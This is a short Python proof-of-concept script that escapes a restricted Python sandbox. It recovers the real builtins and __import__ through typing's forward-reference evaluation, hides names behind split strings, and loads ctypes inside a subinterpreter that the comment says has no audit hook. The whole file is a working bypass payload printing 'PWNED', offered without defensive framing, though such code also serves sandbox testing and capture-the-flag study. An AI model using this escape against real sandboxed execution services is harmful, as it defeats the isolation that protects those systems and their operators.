# ctypes: ctypes inside a subinterpreter (no audit hook there)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["_xxsub" + "interpreters"], key=imp)
si = imp("_xxsub" + "interpreters")
si.run_string(si.create(), "import ctypes; print('PWN' + 'ED', 'libc getpid', ctypes.CDLL(None).getpid())")
